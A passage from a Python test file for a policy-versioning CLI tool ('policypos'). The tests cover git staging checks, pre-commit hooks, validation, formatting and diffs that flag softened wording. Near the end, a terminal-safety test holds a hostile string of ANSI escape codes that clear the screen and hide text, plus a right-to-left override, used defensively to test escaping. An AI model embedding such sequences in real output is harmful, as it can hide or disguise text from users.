        return (root / "doc/versions/v2.yaml").read_text()

    def stage_softening(self, root: Path) -> str:
        """Stage v2 with "should" softened to "may wish to", then put the work tree back.

        Returns v2 as it was (and is again in the work tree).
        """
        original = self.v2(root)
        stage(
            root, "doc/versions/v2.yaml", original.replace("should", "may wish to"), then=original
        )
        return original

    def test_staged_not_work_tree(self, committed: Path) -> None:
        """A softening staged, then undone in the work tree, is what the commit records: --staged
        reads it; without --staged the work tree (unchanged) is read."""
        self.stage_softening(committed)
        result = run(*HOOK.split(), repo=committed)
        assert result.exit_code == 1, result.stderr
        assert "softened: should -> may" in result.stdout
        without = run(*HOOK.replace(" --staged", "").split(), repo=committed)
        assert (without.exit_code, without.stdout.splitlines()[-1]) == (
            0,
            "sections: none; statements: none",
        )

    def test_work_tree_edit_not_staged(self, committed: Path) -> None:
        """The mirror case: a softening left unstaged is not in the commit, so it passes."""
        path = committed / "doc/versions/v2.yaml"
        path.write_text(path.read_text().replace("should", "may wish to"))
        assert run(*HOOK.split(), repo=committed).exit_code == 0

    def test_alone_reads_the_base_staged_too(self, committed: Path) -> None:
        """NEW alone is compared with its base as staged: v1 softened in the index, v2 not."""
        stage(committed, "doc/versions/v1.yaml", SOFTENED, then=PLAN)
        result = run("diff", "doc@v2", "--staged", repo=committed)
        assert "strengthened" in result.stdout, result.output
        assert run("diff", "doc@v2", repo=committed).stdout.endswith("statements: 1 unchanged\n")

    def test_not_staged(self, committed: Path) -> None:
        """A version not in git's index is one error line saying so."""
        (committed / "doc/versions/v3.yaml").write_text(PLAN.replace('"v1"', '"v3"'))
        result = run("diff", "doc@v1", "doc@v3", "--staged", repo=committed)
        assert result.exit_code == 2
        assert result.stderr == (
            f"policypos: error: {committed}/doc/versions/v3.yaml is not in git's index "
            "(not staged): 'git add' it first\n"
        )

    def test_broken_staged_file(self, committed: Path) -> None:
        """A staged file that does not fit the format is reported at git's name for it, :path."""
        stage(
            committed,
            "doc/versions/v2.yaml",
            self.v2(committed).replace("draft", "drat"),
            then=self.v2(committed),
        )
        result = run(*HOOK.split(), repo=committed)
        assert result.exit_code == 2
        assert result.stderr.startswith(f":{committed}/doc/versions/v2.yaml:3:9: error: 'status'")

    def test_first_commit_of_a_new_version(self, committed: Path) -> None:
        """A version new since HEAD is compared with its base as it was there (one note on
        stderr): an unchanged copy passes, a softened one is stopped."""
        (committed / "doc/versions/v2.yaml").unlink()
        git(committed, "commit", "--quiet", "-am", "no v2")
        result = run(
            "new-version",
            "doc",
            "--from",
            "v1",
            "--id",
            "v2",
            "--date",
            "2024-03-01",
            repo=committed,
        )
        assert result.exit_code == 0, result.output
        git(committed, "add", "doc/versions/v2.yaml")
        result = run(*HOOK.split(), repo=committed)
        assert result.exit_code == 0, result.output
        assert result.stdout.startswith("doc: v1 as at HEAD (endorsed, 2024-01-01) -> v2 (draft")
        assert result.stderr == (
            "policypos: note: doc@v2 did not exist in git revision 'HEAD': compared with v1, "
            "the version it is based on, as it was there\n"
        )
        stage(committed, "doc/versions/v2.yaml", self.v2(committed).replace("should", "may"))
        assert run(*HOOK.split(), repo=committed).exit_code == 1
        refused = run(*HOOK.replace(" --allow-new", "").split(), repo=committed)
        assert refused.exit_code == 2
        assert "doc/versions/v2.yaml did not exist in git revision 'HEAD'" in refused.stderr

    def test_new_version_without_a_base(self, committed: Path) -> None:
        """With no base to compare with in HEAD, every statement shows as added."""
        stage(
            committed, "doc/versions/v0.yaml", PLAN.replace('"v1"', '"v0"').replace("2024", "2023")
        )
        result = run(*HOOK.replace("v2", "v0").split(), repo=committed)
        assert result.exit_code == 1
        assert "statements: 1 added" in result.stdout
        assert result.stderr == (
            "policypos: note: doc@v0 did not exist in git revision 'HEAD', nor did a version "
            "it is based on: every statement shows as added\n"
        )

    def test_in_a_git_hook(self, committed: Path, tmp_path: Path) -> None:
        """Installed as .git/hooks/pre-commit, the documented command stops `git commit` on a
        staged softening whatever the work tree holds, and lets an editorial fix through."""
        hook = tmp_path / ".git" / "hooks" / "pre-commit"
        hook.write_text(
            f"#!/bin/sh\nexec {shlex.quote(sys.executable)} -m policypos "
            f"--repo {shlex.quote(str(committed))} {HOOK}\n"
        )
        hook.chmod(0o755)
        original = self.stage_softening(committed)
        commit = [
            "git",
            "-c",
            "user.name=T",
            "-c",
            "user.email=t@example.org",
            "commit",
            "-qm",
            "x",
        ]
        stopped = subprocess.run(commit, cwd=tmp_path, capture_output=True, text=True, check=False)
        assert stopped.returncode == 1
        assert "softened: should -> may" in stopped.stdout + stopped.stderr
        stage(committed, "doc/versions/v2.yaml", original.replace("plan housing.", "plan housing"))
        passed = subprocess.run(commit, cwd=tmp_path, capture_output=True, text=True, check=False)
        assert passed.returncode == 0, passed.stdout + passed.stderr


def documented_hook(page: str = "diff.md", heading: str = "### In a pre-commit hook") -> str:
    """The pre-commit hook script a page of docs/ gives under *heading*, exactly as written."""
    section = (ROOT / "docs" / page).read_text().split(f"{heading}\n", 1)[1]
    return section.split("```sh\n", 1)[1].split("```", 1)[0]


def test_the_hook_recipes_agree() -> None:
    """docs/cli.md repeats the hook docs/diff.md gives (and the tests below run) word for word."""
    assert documented_hook("cli.md", "## Validating what is staged") == documented_hook()


def policypos_on_path(tmp_path: Path) -> dict[str, str]:
    """An environment whose ``policypos`` is this checkout's, as the documented hook calls it."""
    folder = tmp_path / "bin"
    folder.mkdir()
    shim = folder / "policypos"
    shim.write_text(f'#!/bin/sh\nexec {shlex.quote(sys.executable)} -m policypos "$@"\n')
    shim.chmod(0o755)
    env = os.environ | {"PATH": f"{folder}{os.pathsep}{os.environ.get('PATH', '')}"}
    env.pop("POLICYPOS_REPO", None)
    return env


def commit(work: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """``git commit``, which runs .git/hooks/pre-commit; its output and exit code."""
    return subprocess.run(
        ["git", "-c", "user.name=T", "-c", "user.email=t@example.org", "commit", "-qm", "x"],
        cwd=work,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )


DRAFT_2026 = "positions/going-straight/versions/2026.yaml"


@pytest.fixture
def new_repository(tmp_path: Path) -> Path:
    """A fresh ``git init`` work tree (no commit yet) with the shipped positions and a 2026
    draft made from 2024, all staged, and the hook of docs/diff.md installed."""
    work = tmp_path / "work"
    shutil.copytree(SHIPPED, work / "positions")
    git(work, "init", "--quiet")
    made = run(
        "new-version",
        "going-straight",
        "--from",
        "2024",
        "--id",
        "2026",
        "--date",
        "2026-01-10",
        repo=work / "positions",
    )
    assert made.exit_code == 0, made.output
    git(work, "add", "--all")
    hook = work / ".git" / "hooks" / "pre-commit"
    hook.write_text(documented_hook())
    hook.chmod(0o755)
    return work


class TestFirstCommit:
    """A repository's first commit: HEAD does not exist yet, so ~HEAD is git's empty tree."""

    def test_documented_hook_passes_it(self, new_repository: Path, tmp_path: Path) -> None:
        """The documented hook lets the first commit through, saying why; the next commit that
        softens the draft is stopped as ever."""
        env = policypos_on_path(tmp_path)
        first = commit(new_repository, env)
        assert first.returncode == 0, first.stdout + first.stderr
        assert (
            "policypos: note: going-straight@2026 did not exist in git revision 'HEAD': the git "
            "repository has no commits yet, so every statement shows as added, and --exit-code "
            "lets its first commit through"
        ) in first.stderr
        assert "statements: 22 added" in first.stderr  # git shows a hook's output on stderr
        draft = new_repository / DRAFT_2026
        draft.write_text(draft.read_text().replace("prisons should plan", "prisons may plan"))
        git(new_repository, "add", DRAFT_2026)
        second = commit(new_repository, env)
        assert second.returncode == 1
        assert "softened: should -> may" in second.stderr

    def test_documented_hook_validates_what_is_staged(
        self, new_repository: Path, tmp_path: Path
    ) -> None:
        """A draft staged broken and mended on disk since stops the first commit, at git's name
        for the staged copy, :path:line:column."""
        draft = new_repository / DRAFT_2026
        mended = draft.read_text()
        stage(new_repository, DRAFT_2026, mended.replace("status: draft", "status: drat"))
        draft.write_text(mended)
        stopped = commit(new_repository, policypos_on_path(tmp_path))
        assert stopped.returncode == 1
        assert stopped.stderr.startswith(f":{DRAFT_2026}:3:9: error: 'status' must be one of")

    def test_without_allow_new(self, new_repository: Path) -> None:
        """Without --allow-new the version is missing from HEAD, as any new version is: exit 2,
        saying there are no commits yet; HEAD~1 still names no commit."""
        root = new_repository / "positions"
        result = run("diff", "going-straight@2026~HEAD", "going-straight@2026", repo=root)
        assert (result.exit_code, result.stderr) == (
            2,
            f"policypos: error: {root}/going-straight/versions/2026.yaml did not exist in git "
            "revision 'HEAD': the git repository has no commits yet\n",
        )
        earlier = run("diff", "going-straight@2026~HEAD~1", "going-straight@2026", repo=root)
        assert earlier.exit_code == 2
        assert "no commit 'HEAD~1' in the git repository at " in earlier.stderr


class TestValidateStaged:
    """validate --staged checks every file as git's index holds it: what the commit records."""

    def test_staged_copy_broken(self, committed: Path) -> None:
        """Staged broken, mended on disk: --staged finds it at :path; the work tree is clean."""
        v2 = (committed / "doc/versions/v2.yaml").read_text()
        stage(committed, "doc/versions/v2.yaml", v2.replace("draft", "drat"), then=v2)
        result = run("validate", "--staged", repo=committed)
        assert result.exit_code == 1
        assert result.stdout == (
            f":{committed}/doc/versions/v2.yaml:3:9: error: 'status' must be one of draft, "
            "proposed, endorsed, superseded, withdrawn; not 'drat'; did you mean 'draft'?\n"
        )
        assert result.stderr == f"1 error, 0 warnings in {committed} as staged\n"
        assert run("validate", repo=committed).exit_code == 0

    def test_work_tree_broken(self, committed: Path) -> None:
        """The mirror case: broken on disk but not staged, or never added, is not committed."""
        path = committed / "doc/versions/v2.yaml"
        path.write_text(path.read_text().replace("draft", "drat"))
        (committed / "doc/meetings").mkdir()
        (committed / "doc/meetings/m9.yaml").write_text("meeting: [\n")
        assert run("validate", repo=committed).exit_code == 1
        result = run("validate", "--cached", repo=committed)
        assert (result.exit_code, result.stdout) == (0, "")
        assert result.stderr == f"{committed} as staged: no problems\n"

    def test_removed_from_the_index(self, committed: Path) -> None:
        """v1 taken out of the commit (still on disk) leaves v2 based on a version it lacks."""
        git(committed, "rm", "--quiet", "--cached", "doc/versions/v1.yaml")
        result = run("validate", "--staged", repo=committed)
        assert result.exit_code == 1
        assert result.stdout.startswith(f":{committed}/doc/versions/v2.yaml:")
        assert "'v1'" in result.stdout
        assert run("validate", repo=committed).exit_code == 0

    def test_unresolved_conflict(self, committed: Path) -> None:
        """A merge that left v2 in conflict: one error at v2's :path, not a traceback."""
        v2 = (committed / "doc/versions/v2.yaml").read_text()
        git(committed, "checkout", "--quiet", "-b", "other")
        stage(committed, "doc/versions/v2.yaml", v2.replace("plan", "build"))
        git(committed, "commit", "--quiet", "-m", "build")
        git(committed, "checkout", "--quiet", "-")
        stage(committed, "doc/versions/v2.yaml", v2.replace("plan", "fund"))
        git(committed, "commit", "--quiet", "-m", "fund")
        merged = subprocess.run(
            ["git", "merge", "--quiet", "other"], cwd=committed, capture_output=True, check=False
        )
        assert merged.returncode == 1  # the conflict
        result = run("validate", "--staged", repo=committed)
        assert result.exit_code == 1
        assert result.stdout == (
            f":{committed}/doc/versions/v2.yaml: error: has unresolved merge conflicts in git's "
            "index: resolve them and 'git add' it\n"
        )

    def test_nothing_staged(self, make_repo: MakeRepo, tmp_path: Path) -> None:
        """A git work tree whose index holds none of the repository's files: nothing was checked,
        so it is not 'no problems' but exit 2."""
        root = make_repo({"doc/versions/v1.yaml": VERSION})
        git(tmp_path, "init", "--quiet")
        result = run("validate", "--staged", repo=root)
        assert (result.exit_code, result.stderr) == (
            2,
            f"policypos: error: no file in {root} is in git's index (not staged): "
            "'git add' them first\n",
        )

    def test_not_a_git_repository(self, make_repo: MakeRepo, tmp_path: Path) -> None:
        """Outside git, git's own words, one line."""
        root = make_repo({"doc/versions/v1.yaml": VERSION})
        env = {"GIT_CEILING_DIRECTORIES": str(tmp_path)}
        result = run("validate", "--staged", repo=root, env=env)
        assert result.exit_code == 2
        assert result.stderr.startswith("policypos: error: git: fatal: not a git repository")
        assert result.stderr.count("\n") == 1

    def test_python_api(self, committed: Path) -> None:
        """policypos.check(root, staged=True) is what the option runs."""
        v1 = (committed / "doc/versions/v1.yaml").read_text()
        stage(committed, "doc/versions/v1.yaml", v1.replace("2024-01-01", "2024-13-01"), then=v1)
        assert policypos.check(committed) == ()
        (problem,) = policypos.check(committed, staged=True)
        assert str(problem.location) == f":{committed}/doc/versions/v1.yaml:2:7"


class TestFmtStaged:
    """fmt --check --staged names the staged files out of the canonical layout, as :path."""

    V2 = "doc/versions/v2.yaml"

    def spaced(self, root: Path) -> tuple[str, str]:
        """v2 as it is, and with its status out of the layout (the data the same)."""
        text = (root / self.V2).read_text()
        return text, text.replace("status: draft", "status:    draft")

    def test_staged_out_of_layout(self, committed: Path) -> None:
        """Staged out of layout, mended on disk: --staged names it; the work tree passes."""
        text, spaced = self.spaced(committed)
        stage(committed, self.V2, spaced, then=text)
        result = run("fmt", "--check", "--staged", repo=committed)
        assert (result.exit_code, result.stdout) == (1, f"would reformat :{committed}/{self.V2}\n")
        assert run("fmt", "--check", repo=committed).exit_code == 0
        named = run("fmt", "--check", "--cached", str(committed / self.V2), repo=committed)
        assert named.exit_code == 1
        (problem,) = policypos.unformatted_staged(committed)
        assert str(problem) == f":{committed}/{self.V2}"

    def test_work_tree_out_of_layout(self, committed: Path) -> None:
        """The mirror case: on disk only, not committed, so --staged passes silently."""
        _, spaced = self.spaced(committed)
        (committed / self.V2).write_text(spaced)
        assert run("fmt", "--check", repo=committed).exit_code == 1
        result = run("fmt", "--check", "--staged", repo=committed)
        assert (result.exit_code, result.output) == (0, "")

    def test_broken_staged_file(self, committed: Path) -> None:
        """A staged file the loader refuses is refused at its :path, exit 2."""
        text, _ = self.spaced(committed)
        stage(committed, self.V2, "version: [\n", then=text)
        result = run("fmt", "--check", "--staged", repo=committed)
        assert result.exit_code == 2
        assert result.stderr.startswith(f":{committed}/{self.V2}:2:1: error: malformed YAML")

    @pytest.mark.parametrize(
        ("args", "said"),
        [
            (["--staged"], "--staged reads git's index, which fmt does not write: give --check"),
            (["--check", "--staged", "NEW"], "doc/versions/v3.yaml is not in git's index"),
        ],
    )
    def test_refused(self, committed: Path, args: list[str], said: str) -> None:
        """fmt writes no index; a file named must be staged. Exit 2, one line."""
        new = committed / "doc/versions/v3.yaml"
        new.write_text(PLAN.replace('"v1"', '"v3"'))
        result = run("fmt", *[str(new) if a == "NEW" else a for a in args], repo=committed)
        assert result.exit_code == 2
        assert said in result.stderr
        assert result.stderr.count("\n") == 1


class TestLinkLoops:
    """A path named on the command line that is a loop of links: one line, exit 2, no traceback."""

    @pytest.mark.parametrize(
        ("args", "option"),
        [
            (["render", "annex", "going-straight@2024", "-o", "LOOP"], "'-o' / '--output'"),
            (["diff", "going-straight", "-o", "LOOP"], "'-o' / '--output'"),
            (["schema", "version", "-o", "LOOP"], "'-o' / '--output'"),
            (["publish", "-o", "LOOP"], "'-o' / '--output'"),
            (["render", "annex", "going-straight@2024", "--template", "LOOP"], "'--template'"),
            (["new-document", "d", "--from", "LOOP"], "'--from'"),
            (["fmt", "LOOP"], "'[PATHS]...'"),
        ],
        ids=["render", "diff", "schema", "publish", "template", "outline", "fmt"],
    )
    def test_option(self, tmp_path: Path, args: list[str], option: str) -> None:
        """The option is named, and the loop, not a file that "does not exist"."""
        loop = tmp_path / "loop"
        loop.symlink_to("ring")
        (tmp_path / "ring").symlink_to("loop")
        result = run(*[str(loop) if a == "LOOP" else a for a in args])
        assert (result.exit_code, result.stdout) == (2, "")
        assert result.stderr.startswith(
            f"policypos: error: invalid value for {option}: '{loop}' is a link that leads "
            "back to itself in a loop (try 'policypos "
        )
        assert result.stderr.count("\n") == 1

    def test_repository(self, tmp_path: Path) -> None:
        """--repo naming a loop says so, in the words of every other --repo refusal."""
        loop = tmp_path / "loop"
        loop.symlink_to("loop")
        result = CliRunner().invoke(cli, ["--repo", str(loop), "validate"])
        assert (result.exit_code, result.stderr) == (
            2,
            f"{loop}: error: no positions repository here (a link that leads back to itself "
            "in a loop), named by --repo\n",
        )


class TestHistory:
    """policypos history: one statement through the versions."""

    def test_shipped_statement(self, update_goldens: bool) -> None:
        """da-3 gained gambling in 2024, answering comment 3.3."""
        result = run("history", "going-straight", "da-3")
        assert result.exit_code == 0
        assert_golden("history-going-straight-da-3.txt", result.stdout, update_goldens)

    @pytest.mark.parametrize("fmt", ["text", "markdown", "json"])
    def test_says_what_each_change_means(self, fmt: str) -> None:
        """ee-1 was softened in 2024: every format of its history says so."""
        result = run("history", "going-straight", "ee-1", "--format", fmt)
        assert result.exit_code == 0
        assert "softened" in result.stdout

    def test_removed_for_good(self) -> None:
        """acc-3 left in 2024: the history says so instead of stopping at 2005."""
        result = run("history", "going-straight", "acc-3")
        assert result.exit_code == 0
        assert result.stdout.splitlines()[2:] == [
            "2005  2005-01-01  endorsed  appears  paragraph 2.3 in section accommodation",
            "    Government should fund supported housing for offenders with complex needs, "
            "including hostels and floating support.",
            "",
            "2024  2024-07-01  proposed  removed",
            "  - acc-3  [-Government should fund supported housing for offenders with complex "
            "needs, including hostels and floating support.-]",
        ]

    def test_paragraph_number(self) -> None:
        """4.3 of the 2024 statement is da-3; 2.2 of 2005 is acc-2, which moved into General."""
        by_number = run("history", "going-straight", "4.3")
        assert by_number.stdout == run("history", "going-straight", "da-3").stdout
        older = run("history", "going-straight@2005", "2.2")
        assert older.exit_code == 0
        assert older.stdout.splitlines()[0] == "going-straight: statement acc-2"
        assert "paragraph 1.4 in section general" in older.stdout

    def test_unknown(self) -> None:
        """An unknown statement or paragraph is exit 2, naming where it was looked for."""
        result = run("history", "going-straight", "nope")
        assert (result.exit_code, result.stderr) == (
            2,
            "policypos: error: no statement 'nope' in going-straight (known: gen-1, gen-2, "
            "gen-3, acc-2, ee-1, ee-2, ee-3, ee-4, acc-1, acc-4, da-1, da-2, and 11 more)\n",
        )
        result = run("history", "going-straight@2005", "9.9")
        assert (result.exit_code, result.stderr) == (
            2,
            "policypos: error: no paragraph '9.9' in going-straight@2005 (known: 1.1, 1.2, "
            "1.3, 1.4, 2.1, 2.2, 2.3, 3.1, 3.2, 3.3, 3.4, 4.1, and 3 more)\n",
        )


HOUSING = "Councils should plan for the housing needs of people leaving prison."
CASELOAD = "Probation should share caseload data with housing teams each {when}."


def history_version(vid: str, month: int, base: str | None, *statements: tuple[str, str]) -> str:
    """A version file of one section holding *statements* (id, text), built on *base*."""
    lines = [f'version: "{vid}"', f"date: 2024-0{month}-01", "status: draft"]
    if base is not None:
        lines.append(f'based_on: "{base}"')
    lines += ["sections:", "  - id: s1", "    title: One", "    statements:"]
    for sid, text in statements:
        lines += [f"      - id: {sid}", f"        text: {text}"]
    return "\n".join(lines) + "\n"


class TestHistoryFollowsOfficers:
    """policypos history follows what officers did: texts back under new ids, and branches."""

    @pytest.fixture
    def repo(self, make_repo: MakeRepo) -> Path:
        """ee-3 removed in v2, back as ee-7 in v3; alt is a draft built on v1, after v3."""
        quarter, month = CASELOAD.format(when="quarter"), CASELOAD.format(when="month")
        week = CASELOAD.format(when="week")
        return make_repo(
            {
                "doc/versions/v1.yaml": history_version(
                    "v1", 1, None, ("ee-3", HOUSING), ("ee-4", quarter)
                ),
                "doc/versions/v2.yaml": history_version("v2", 2, "v1", ("ee-4", month)),
                "doc/versions/v3.yaml": history_version(
                    "v3", 3, "v2", ("ee-4", month), ("ee-7", HOUSING)
                ),
                "doc/versions/alt.yaml": history_version(
                    "alt", 4, "v1", ("ee-3", HOUSING), ("ee-4", week)
                ),
            }
        )

    def test_back_under_a_new_id(self, repo: Path) -> None:
        """Following ee-3 shows its text back as ee-7 in v3, and ee-7 shows where it came from."""
        result = run("history", "doc@v1", "ee-3", repo=repo)
        assert result.exit_code == 0, result.stderr
        lines = result.stdout.splitlines()
        assert lines[:2] == [
            "doc: statement ee-3 (also ee-7)",
            "branches: v1 -> v2 -> v3; v1 -> alt",
        ]
        assert (
            "v3  2024-03-01  draft  restored  paragraph 1.2 in section s1  "
            "(last held in v1, as ee-3)" in lines
        )
        assert f"  ~ ee-7 (was ee-3, matched by text)  {HOUSING}" in lines
        assert run("history", "doc", "ee-7", repo=repo).stdout == result.stdout

    def test_a_branch_is_compared_with_its_base(self, repo: Path) -> None:
        """alt, built on v1, amends v1's text: it does not undo v2's change to ee-4."""
        result = run("history", "doc", "ee-4", repo=repo)
        assert result.exit_code == 0, result.stderr
        assert result.stdout.splitlines()[-2:] == [
            "alt  2024-04-01  draft  amended  paragraph 1.2 in section s1  (based on v1)",
            "  ~ ee-4 [reworded]  Probation should share caseload data with housing teams "
            "each [-quarter-]{+week+}.",
        ]
        # v3 follows v2 directly: no "based on" there.
        assert "v3  2024-03-01  draft  kept  paragraph 1.1 in section s1" in result.stdout

    def test_the_documented_example(self, repo: Path) -> None:
        """docs/diff.md shows this repository's history of ee-4 exactly as the command prints it."""
        import re

        from tests.conftest import ROOT

        page = (ROOT / "docs" / "diff.md").read_text(encoding="utf-8")
        block = re.search(r"```console\n\$ policypos history doc ee-4\n(.*?)```", page, re.S)
        assert block is not None
        assert run("history", "doc", "ee-4", repo=repo).stdout == block.group(1)

    def test_markdown(self, repo: Path) -> None:
        """The Markdown headings say the base at a branch and where a return was last held.

        The statement is named by its paragraph number, as the annex of the
        version it was last held in numbers it, not by its id alone.
        """
        result = run("history", "doc", "ee-7", "--format", "markdown", repo=repo)
        assert result.exit_code == 0, result.stderr
        assert (
            "\nBranches, each version after the one it was built on: v1 -> v2 -> v3; v1 -> alt.\n"
            in result.stdout
        )
        headings = [line for line in result.stdout.splitlines() if line.startswith("#")]
        assert headings == [
            "# A document: paragraph 1.1 `ee-3`",
            "## Version v1 (draft, 2024-01-01): appears",
            "## Version v2 (draft, 2024-02-01): removed",
            "## Version v3 (draft, 2024-03-01, last held in v1, as paragraph 1.1): restored",
            "## Version alt (draft, 2024-04-01, based on v1): kept",
        ]

    def test_json(self, repo: Path) -> None:
        """Each step names its base and the version its change is counted from."""
        import json

        result = run("history", "doc", "ee-7", "--format", "json", repo=repo)
        assert result.exit_code == 0, result.stderr
        data = json.loads(result.stdout)
        assert data["statement"] == "ee-3"
        assert [
            (s["version"], s["event"], s["id"], s["base"], s["compared_with"])
            for s in data["steps"]
        ] == [
            ("v1", "appears", "ee-3", None, None),
            ("v2", "removed", None, "v1", "v1"),
            ("v3", "restored", "ee-7", "v2", "v1"),
            ("alt", "kept", "ee-3", "v1", "v1"),
        ]
        assert data["steps"][2]["change"]["old_id"] == "ee-3"

    def test_api_agrees(self, repo: Path) -> None:
        """policypos.history on the opened repository gives the steps the CLI printed."""
        import policypos

        document = policypos.open_repository(repo).document("doc")
        steps = policypos.history(document, "ee-7")
        assert [(s.version.id, str(s.event)) for s in steps] == [
            ("v1", "appears"),
            ("v2", "removed"),
            ("v3", "restored"),
            ("alt", "kept"),
        ]


TWO_SECTIONS = """\
version: "{vid}"
date: 2024-0{month}-01
status: draft
preamble: Opening words.
sections:
  - id: {first}
    title: First
    statements:
      - id: {a}
        text: Councils should plan for the housing needs of people leaving prison.
        tags: [housing, probation]
      - id: b
        text: Every prison should offer advice on debt and benefits before release.
      - id: c
        text: Families of prisoners should be told where to find support near home.
  - id: second
    title: Second
    statements:
      - id: d
        text: Parenting support should be open to offenders and their partners.
"""


def two_versions(make_repo: MakeRepo, old: str, new: str) -> Path:
    return make_repo({"doc/versions/v1.yaml": old, "doc/versions/v2.yaml": new})


def base(**kw: str) -> str:
    fields = {"vid": "v1", "month": "1", "first": "first", "a": "a"} | kw
    return TWO_SECTIONS.format(**fields)


class TestDiffSaysWhatChanged:
    """Every view says what kind of change it was; --exit-code fails on any change at all."""

    def test_renamed_ids_are_changes(self, make_repo: MakeRepo) -> None:
        """GEN-1 -> gen-1 with the same text: shown, counted as modified, and exit 1."""
        root = two_versions(
            make_repo, base(a="GEN-1", first="FIRST"), base(vid="v2", month="2", a="gen-1")
        )
        result = run("diff", "doc@v1", "doc@v2", "--exit-code", repo=root)
        assert result.exit_code == 1
        lines = result.stdout.splitlines()
        assert "~ First  first  [modified, was FIRST]" in lines
        assert (
            "  ~ gen-1 (was GEN-1, matched by text)  Councils should plan for the housing needs of people leaving prison."
            in lines
        )
        assert lines[-1] == "sections: 1 modified, 1 unchanged; statements: 1 modified, 3 unchanged"
        markdown = run("diff", "doc@v1", "doc@v2", "--format", "markdown", repo=root).stdout
        assert (
            "**1. First** has been revised: 1 otherwise changed; of all its statements, "
            "1 given a new id." in markdown
        )
        assert "- **1.1** `gen-1` (new id, was `GEN-1`): Councils should plan" in markdown

    def test_every_id_renamed(self, make_repo: MakeRepo) -> None:
        """Renaming every section and statement id leaves no statement 'unchanged'."""
        import json

        new = base(vid="v2", month="2", a="a2", first="first2").replace("id: b", "id: b2")
        new = (
            new.replace("id: c", "id: c2")
            .replace("id: d", "id: d2")
            .replace("id: second", "id: second2")
        )
        root = two_versions(make_repo, base(), new)
        data = json.loads(run("diff", "doc@v1", "doc@v2", "--format", "json", repo=root).stdout)
        assert data["summary"]["statements"] == {
            "added": 0,
            "removed": 0,
            "modified": 4,
            "unchanged": 0,
            "moved": 0,
            "reordered": 0,
        }
        assert [s["fields"]["id"] for s in data["sections"]] == [
            {"old": "first", "new": "first2"},
            {"old": "second", "new": "second2"},
        ]
        assert run("diff", "doc@v1", "doc@v2", "--exit-code", repo=root).exit_code == 1

    def test_white_space_only(self, make_repo: MakeRepo) -> None:
        """A re-wrapped block is reported as white space only, in JSON and in the word-diff."""
        import json

        wrapped = base(vid="v2", month="2").replace(
            "      - id: b\n        text: Every prison should offer advice on debt and benefits before release.\n",
            "      - id: b\n        text: |\n          Every prison should offer advice\n          on debt and benefits before release.\n",
        )
        root = two_versions(make_repo, base(), wrapped)
        data = json.loads(run("diff", "doc@v1", "doc@v2", "--format", "json", repo=root).stdout)
        (entry,) = [s for sec in data["sections"] for s in sec["statements"] if s["id"] == "b"]
        assert (entry["change"], entry["whitespace_only"]) == ("modified", True)
        assert all(p["op"] == "equal" or not p["text"].strip() for p in entry["redline"])
        others = [s for sec in data["sections"] for s in sec["statements"] if s["id"] != "b"]
        assert all("whitespace_only" not in s for s in others)
        text = run("diff", "doc@v1", "doc@v2", repo=root).stdout
        assert (
            "  ~ b (white space only)  Every prison should offer advice on debt and benefits before release."
            in text
        )
        markdown = run("diff", "doc@v1", "doc@v2", "--format", "markdown", repo=root).stdout
        assert "**1. First** has been revised: 1 changed in white space only." in markdown

    def test_tags_reordered(self, make_repo: MakeRepo) -> None:
        """Only the tags changed: re-tagged, not reworded."""
        retagged = base(vid="v2", month="2").replace("[housing, probation]", "[probation, housing]")
        root = two_versions(make_repo, base(), retagged)
        markdown = run("diff", "doc@v1", "doc@v2", "--format", "markdown", repo=root).stdout
        assert (
            "**1. First** has been revised: 1 otherwise changed; of all its statements, "
            "1 re-tagged." in markdown
        )
        assert "reworded" not in markdown
        assert (
            "- **1.1** `a` (tags: housing, probation to probation, housing): Councils" in markdown
        )

    def test_drafting_notes_stay_out_of_board_markdown(self, make_repo: MakeRepo) -> None:
        """A note added is a change of the data (exit 1), but a board paper never shows it."""
        noted = base(vid="v2", month="2").replace(
            "        tags: [housing, probation]\n",
            "        tags: [housing, probation]\n        note: Check this with the housing team.\n",
        )
        root = two_versions(make_repo, base(), noted)
        assert run("diff", "doc@v1", "doc@v2", "--exit-code", repo=root).exit_code == 1
        text = run("diff", "doc@v1", "doc@v2", repo=root).stdout
        assert "[note: (none) -> Check this with the housing team.]" in text
        markdown = run("diff", "doc@v1", "doc@v2", "--format", "markdown", repo=root).stdout
        assert "housing team" not in markdown
        assert "**1. First** is unchanged." in markdown
        assert "#### 1. First" not in markdown

    def test_pure_reorders(self, make_repo: MakeRepo) -> None:
        """A section moved to the front and a statement to the top: every view says where."""
        old = base()
        first, second = old.split("  - id: second\n")
        head, first_body = first.split("sections:\n")
        statements = first_body.split("      - id: ")
        # statements: [section head, a..., b..., c...]; put c first.
        first_body = (
            statements[0]
            + "      - id: "
            + statements[3]
            + "      - id: "
            + statements[1]
            + "      - id: "
            + statements[2]
        )
        new = (
            head.replace('"v1"', '"v2"').replace("2024-01", "2024-02")
            + "sections:\n  - id: second\n"
            + second
            + first_body
        )
        root = two_versions(make_repo, old, new)
        result = run("diff", "doc@v1", "doc@v2", "--exit-code", repo=root)
        assert result.exit_code == 1
        lines = result.stdout.splitlines()
        assert "= Second  second  [unchanged, reordered: now section 1, was 2]" in lines
        assert any(
            line.startswith("  = c (reordered: now 2.1, was 1.3)  Families") for line in lines
        )
        markdown = run("diff", "doc@v1", "doc@v2", "--format", "markdown", repo=root).stdout
        assert (
            "**1. Second** is unchanged in content. It now comes as section 1 (it was section 2)."
            in markdown
        )
        assert "**2. First** has been revised: 1 put in a new place." in markdown
        assert "- **2.1** `c` (reordered: now 2.1, was 1.3): Families" in markdown
        assert "#### 1. Second\n\nNo statement in it changed." in markdown

    def test_preamble(self, make_repo: MakeRepo) -> None:
        """The version's own preamble changed: a change, shown, and exit 1."""
        root = two_versions(
            make_repo,
            base(),
            base(vid="v2", month="2").replace("Opening words.", "New opening words."),
        )
        result = run("diff", "doc@v1", "doc@v2", "--exit-code", repo=root)
        assert result.exit_code == 1
        assert result.stdout.splitlines()[1] == "  preamble: Opening words. -> New opening words."
        markdown = run("diff", "doc@v1", "doc@v2", "--format", "markdown", repo=root).stdout
        assert "The version's preamble changed." in markdown

    def test_nothing_changed(self, make_repo: MakeRepo) -> None:
        """Only the version's id, date and status differ: exit 0."""
        root = two_versions(make_repo, base(), base(vid="v2", month="2"))
        assert run("diff", "doc@v1", "doc@v2", "--exit-code", repo=root).exit_code == 0


class TestTerminalSafety:
    """Text that could act on a terminal is escaped in terminal views and exact in JSON."""

    HOSTILE = "Clear \\e[2J\\e[Hthe screen, hide \\e[8msecrets, and turn \\u202Eright to left."

